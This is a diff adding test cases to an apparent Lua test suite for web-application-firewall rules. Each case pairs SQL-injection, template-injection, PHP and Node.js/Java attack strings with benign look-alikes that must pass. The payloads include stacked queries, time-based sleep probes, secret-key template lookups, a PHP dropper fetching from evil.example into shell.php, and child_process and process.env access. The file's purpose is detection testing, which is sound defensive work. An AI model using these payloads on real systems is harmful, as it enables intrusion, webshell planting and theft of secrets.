@@ -103,4 +103,31 @@ describe_rules("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", functi
         clean({ "getallheaders() returns nothing under php-fpm?", "the dl tag in HTML", "'-' means no value",
             "ReflectionClass is slow in hot paths", "'a'-'b'" })
     end)
+
+    it("round three, SQLi: stacked SHOW, IF() with a comparison, CHAR() chains", function()
+        caught_by(142170, { "1;show tables", "x'; SHOW DATABASES;--", "1; show grants" })
+        caught_by(142190, { "1*if(1=1,1,0)", "if(now()=sysdate(),sleep(5),0)", "x'+IF(ascii(user())>64,1,0)+'" })
+        caught_by(142200, { "CHAR(83)+CHAR(69)+CHAR(76)", "nchar(65)+nchar(66)", "char(65)&char(66)" })
+        clean({ "show tables at the event: 12, ask Maria", "if (a > b && c < d) return; // review",
+            "if (possible) we ship on Friday, otherwise Monday", "char(10) is a line feed" })
+    end)
+
+    it("round three, SSTI and PHP: secrets via the context, variable variables, droppers, imap_open", function()
+        caught_by(134100, { "{{ messages.storages.0.signer.key }}", "{{ request.environ }}", "{{ secret_key }}" })
+        caught_by(133100, { "$$a($$b)", "$$$x()", "$_=[];$_=@\"$_\";$_=$_['!'=='@'];", "$__ = 'a'; $___ .= 'b';" })
+        caught_by(133110, { "imap_open('{x:143/imap}INBOX','','')", "copy('http://evil.example/x.txt','shell.php')",
+            "error_log('<?php x ?>',3,'/var/www/s.php')", "rename('/tmp/up.jpg', 'up.phtml')" })
+        clean({ "{{ user.name }} and {{ items.0.title }}", "copy the config from staging, then restart",
+            "the $$ signs in the price column", "$_ in Perl is the default variable" })
+    end)
+
+    it("round three, Java and Node.js: BCEL names, computed require, process I/O and state", function()
+        caught_by(144100, { "$$BCEL$$$l$8b$I$A$A$A$A", "{\"@type\":\"x\",\"driverClassName\":\"$$BCEL$$$l$8b\"}" })
+        caught_by(135100, { "require(['child','process'].join('_'))", "require('child_'+'process')",
+            "require(\"ch\" + x)" })
+        caught_by(135130, { "process.openStdin()", "process.stdout.write(process.version)", "process.getuid()",
+            "Array.from(process.argv)", "JSON.stringify(process.env)", "Object.keys(process.env)" })
+        clean({ "require('./locales/' + lang)", "require(path.join(__dirname, 'config'))",
+            "process: 1) apply 2) interview 3) offer", "process.env is empty inside the container" })
+    end)
 end)
